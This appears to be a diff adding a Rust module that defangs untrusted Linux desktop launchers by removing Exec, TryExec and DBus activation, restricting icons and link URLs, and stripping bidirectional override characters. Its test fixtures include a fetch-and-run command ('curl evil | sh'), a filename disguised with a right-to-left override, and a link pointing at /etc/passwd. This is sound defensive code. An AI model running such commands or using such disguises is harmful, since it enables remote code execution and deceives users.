@@ -0,0 +1,380 @@
+//! Defanging of desktop files from untrusted locations, such as a download or a USB stick, for
+//! file managers that preview them or honor their name and icon without running them. A
+//! launcher disguised as a document is a known attack, so everything that runs code or points
+//! outside the expected places is removed, and every change is reported so the UI can explain
+//! why the launcher looks degraded.
+
+use std::path::{Component, Path, PathBuf};
+
+use crate::{DesktopFile, EntryType, IconString, LocaleString};
+
+/// What [`DesktopFile::sanitize`] does with the Exec keys
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub enum ExecPolicy {
+    /// Remove Exec from the entry and the actions
+    #[default]
+    Remove,
+    /// Replace Exec with a harmless command line, like `false`
+    Replace(String),
+}
+
+/// What [`DesktopFile::sanitize`] removes or neutralizes
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct SanitizePolicy {
+    pub exec: ExecPolicy,
+    /// Remove TryExec, which makes the entry probe an arbitrary path
+    pub remove_try_exec: bool,
+    /// Set DBusActivatable to false, as activation runs whatever service claims the name
+    pub disable_dbus_activation: bool,
+    /// The directories absolute Icon paths must be in. Icons given as paths elsewhere, and
+    /// relative paths, are dropped, while icon names are kept.
+    pub icon_prefixes: Vec<PathBuf>,
+    /// The URL schemes a Link entry may point to, compared without case. The URL of a link
+    /// with another scheme is cleared.
+    pub url_schemes: Vec<String>,
+    /// Remove control characters and the bidirectional formatting characters that can make
+    /// `evil\u{202e}fdp.desktop` display as `evilpdf.desktop` from the displayed strings:
+    /// Name, GenericName, Comment, Keywords and the names of the actions
+    pub strip_control_chars: bool,
+}
+
+impl Default for SanitizePolicy {
+    fn default() -> Self {
+        Self {
+            exec: ExecPolicy::Remove,
+            remove_try_exec: true,
+            disable_dbus_activation: true,
+            icon_prefixes: vec!["/usr/share/icons".into(), "/usr/share/pixmaps".into()],
+            url_schemes: vec!["http".into(), "https".into()],
+            strip_control_chars: true,
+        }
+    }
+}
+
+/// A change made by [`DesktopFile::sanitize`]. `action` is the id of the action the change
+/// was made in, None for the Desktop Entry group.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Modification {
+    ExecRemoved {
+        action: Option<String>,
+        exec: String,
+    },
+    ExecReplaced {
+        action: Option<String>,
+        exec: String,
+    },
+    TryExecRemoved {
+        try_exec: String,
+    },
+    DBusActivationDisabled,
+    IconDropped {
+        action: Option<String>,
+        icon: String,
+    },
+    UrlCleared {
+        url: String,
+    },
+    /// Control characters were removed from a key, written like `Name[de]`
+    ControlCharactersRemoved {
+        action: Option<String>,
+        key: String,
+    },
+    /// An action group the Actions key doesn't list was removed, as the serializer would
+    /// write back its Exec
+    UnlistedActionRemoved {
+        action: String,
+    },
+}
+
+/// The changes made by [`DesktopFile::sanitize`], in the order of the file with the actions
+/// sorted by id
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct SanitizeReport {
+    pub modifications: Vec<Modification>,
+}
+
+impl SanitizeReport {
+    /// Whether the file needed no change
+    pub fn is_clean(&self) -> bool {
+        self.modifications.is_empty()
+    }
+}
+
+/// Whether a character is removed from displayed strings: control characters and the
+/// bidirectional embeddings, overrides, isolates and marks
+fn is_stripped(ch: char) -> bool {
+    ch.is_control()
+        || matches!(ch, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+}
+
+/// Removes the stripped characters of a value, returning whether there were any
+fn strip(value: &mut String) -> bool {
+    let len = value.len();
+    value.retain(|ch| !is_stripped(ch));
+    value.len() != len
+}
+
+/// Strips the default value and the variants of a localized string, returning the keys that
+/// changed, like `Name` or `Name[de]`
+fn strip_locale_string(key: &str, string: &mut LocaleString) -> Vec<String> {
+    let mut changed = vec![];
+    if strip(&mut string.default) {
+        changed.push(key.to_string());
+    }
+
+    let mut variants = string.variants.iter_mut().collect::<Vec<_>>();
+    variants.sort_by(|a, b| a.0.cmp(b.0));
+    for (locale, value) in variants {
+        if strip(value) {
+            changed.push(format!("{key}[{locale}]"));
+        }
+    }
+    changed
+}
+
+/// Whether an Icon value is allowed: a name, or an absolute path inside one of the prefixes
+/// without `..` components
+fn icon_allowed(icon: &str, prefixes: &[PathBuf]) -> bool {
+    if !icon.contains('/') {
+        return true;
+    }
+
+    let path = Path::new(icon);
+    path.is_absolute()
+        && !path.components().any(|c| c == Component::ParentDir)
+        && prefixes.iter().any(|prefix| path.starts_with(prefix))
+}
+
+impl SanitizePolicy {
+    /// Drops a disallowed icon, reporting it
+    fn icon(
+        &self,
+        icon: &mut Option<IconString>,
+        action: Option<&String>,
+        report: &mut SanitizeReport,
+    ) {
+        if icon
+            .as_ref()
+            .is_some_and(|i| !icon_allowed(&i.content, &self.icon_prefixes))
+        {
+            let icon = icon.take().unwrap().content;
+            report.modifications.push(Modification::IconDropped {
+                action: action.cloned(),
+                icon,
+            });
+        }
+    }
+
+    /// Removes or replaces an Exec value, reporting it
+    fn exec(
+        &self,
+        exec: &mut Option<String>,
+        action: Option<&String>,
+        report: &mut SanitizeReport,
+    ) {
+        let Some(ref current) = *exec else {
+            return;
+        };
+
+        let modification = match self.exec {
+            ExecPolicy::Remove => Modification::ExecRemoved {
+                action: action.cloned(),
+                exec: exec.take().unwrap(),
+            },
+            ExecPolicy::Replace(ref replacement) if replacement != current => {
+                Modification::ExecReplaced {
+                    action: action.cloned(),
+                    exec: exec.replace(replacement.clone()).unwrap(),
+                }
+            }
+            ExecPolicy::Replace(_) => return,
+        };
+        report.modifications.push(modification);
+    }
+}
+
+impl DesktopFile {
+    /// Removes or neutralizes everything the policy disallows, see [`SanitizePolicy`], and
+    /// reports each change. The sanitized file may no longer be valid, like an application
+    /// without Exec, which is the point: it can be shown but not run.
+    pub fn sanitize(&mut self, policy: &SanitizePolicy) -> SanitizeReport {
+        let mut report = SanitizeReport::default();
+        let entry = &mut self.entry;
+
+        if policy.strip_control_chars {
+            let mut changed = strip_locale_string("Name", &mut entry.name);
+            for (key, string) in [
+                ("GenericName", entry.generic_name.as_mut()),
+                ("Comment", entry.comment.as_mut()),
+            ] {
+                if let Some(string) = string {
+                    changed.extend(strip_locale_string(key, string));
+                }
+            }
+            if let EntryType::Application(ref mut fields) = entry.entry_type {
+                if let Some(ref mut keywords) = fields.keywords {
+                    if keywords.default.iter_mut().fold(false, |c, k| strip(k) | c) {
+                        changed.push("Keywords".into());
+                    }
+                    let mut variants = keywords.variants.iter_mut().collect::<Vec<_>>();
+                    variants.sort_by(|a, b| a.0.cmp(b.0));
+                    for (locale, items) in variants {
+                        if items.iter_mut().fold(false, |c, k| strip(k) | c) {
+                            changed.push(format!("Keywords[{locale}]"));
+                        }
+                    }
+                }
+            }
+            report.modifications.extend(
+                changed
+                    .into_iter()
+                    .map(|key| Modification::ControlCharactersRemoved { action: None, key }),
+            );
+        }
+
+        policy.icon(&mut entry.icon, None, &mut report);
+        if entry.icon.is_none() {
+            entry.raw_values.icon = None;
+        }
+
+        match entry.entry_type {
+            EntryType::Application(ref mut fields) => {
+                policy.exec(&mut fields.exec, None, &mut report);
+                // the bytes kept by parse_bytes would still be run by exec_os
+                entry.raw_values.exec = None;
+                if policy.remove_try_exec {
+                    entry.raw_values.try_exec = None;
+                    if let Some(try_exec) = fields.try_exec.take() {
+                        report
+                            .modifications
+                            .push(Modification::TryExecRemoved { try_exec });
+                    }
+                }
+            }
+            EntryType::Link(ref mut fields) => {
+                let scheme = fields.url.split_once(':').map(|(scheme, _)| scheme);
+                let allowed = scheme.is_some_and(|scheme| {
+                    policy
+                        .url_schemes
+                        .iter()
+                        .any(|s| s.eq_ignore_ascii_case(scheme))
+                });
+                if !allowed && !fields.url.is_empty() {
+                    report.modifications.push(Modification::UrlCleared {
+                        url: std::mem::take(&mut fields.url),
+                    });
+                }
+            }
+            _ => {}
+        }
+
+        if policy.disable_dbus_activation && entry.dbus_activatable == Some(true) {
+            entry.dbus_activatable = Some(false);
+            report
+                .modifications
+                .push(Modification::DBusActivationDisabled);
+        }
+
+        let mut actions = self.actions.iter_mut().collect::<Vec<_>>();
+        actions.sort_by(|a, b| a.0.cmp(b.0));
+        for (id, action) in actions {
+            if policy.strip_control_chars {
+                for key in strip_locale_string("Name", &mut action.name) {
+                    report
+                        .modifications
+                        .push(Modification::ControlCharactersRemoved {
+                            action: Some(id.clone()),
+                            key,
+                        });
+                }
+            }
+            policy.icon(&mut action.icon, Some(id), &mut report);
+            policy.exec(&mut action.exec, Some(id), &mut report);
+        }
+
+        let mut unlisted = self
+            .unlisted_actions
+            .drain()
+            .map(|(id, _)| id)
+            .collect::<Vec<_>>();
+        unlisted.sort();
+        report.modifications.extend(
+            unlisted
+                .into_iter()
+                .map(|action| Modification::UnlistedActionRemoved { action }),
+        );
+
+        report
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_sanitize() {
+        let mut file = crate::parse(
+            "[Desktop Entry]\nType=Application\nName=invoice\u{202e}fdp.desktop\nName[de]=Rechnung\nComment=Open\u{7}\nIcon=/home/me/.cache/pdf.png\nExec=sh -c 'curl evil | sh'\nTryExec=sh\nDBusActivatable=true\nActions=new;\n\n[Desktop Action new]\nName=New\nIcon=/usr/share/icons/hicolor/48x48/apps/app.png\nExec=sh\n\n[Desktop Action hidden]\nExec=sh\n",
+        )
+        .unwrap();
+
+        let report = file.sanitize(&SanitizePolicy::default());
+        assert_eq!(
+            report.modifications,
+            [
+                Modification::ControlCharactersRemoved {
+                    action: None,
+                    key: "Name".into()
+                },
+                Modification::ControlCharactersRemoved {
+                    action: None,
+                    key: "Comment".into()
+                },
+                Modification::IconDropped {
+                    action: None,
+                    icon: "/home/me/.cache/pdf.png".into()
+                },
+                Modification::ExecRemoved {
+                    action: None,
+                    exec: "sh -c 'curl evil | sh'".into()
+                },
+                Modification::TryExecRemoved {
+                    try_exec: "sh".into()
+                },
+                Modification::DBusActivationDisabled,
+                Modification::ExecRemoved {
+                    action: Some("new".into()),
+                    exec: "sh".into()
+                },
+                Modification::UnlistedActionRemoved {
+                    action: "hidden".into()
+                },
+            ]
+        );
+        assert_eq!(file.entry.name.default, "invoicefdp.desktop");
+        assert!(file.entry.icon.is_none());
+        assert!(file.actions["new"].icon.is_some());
+        assert!(file.sanitize(&SanitizePolicy::default()).is_clean());
+
+        let mut link = crate::parse(
+            "[Desktop Entry]\nType=Link\nName=Docs\nURL=file:///etc/passwd\nIcon=../../icon.png\n",
+        )
+        .unwrap();
+        let policy = SanitizePolicy {
+            exec: ExecPolicy::Replace("false".into()),
+            ..Default::default()
+        };
+        let report = link.sanitize(&policy);
+        assert_eq!(report.modifications.len(), 2);
+        assert_eq!(link.entry.as_link().unwrap().url, "");
+
+        let mut app =
+            crate::parse("[Desktop Entry]\nType=Application\nName=App\nExec=app %U\n").unwrap();
+        app.sanitize(&policy);
+        assert_eq!(
+            app.entry.as_application().unwrap().exec.as_deref(),
+            Some("false")
+        );
+    }
+}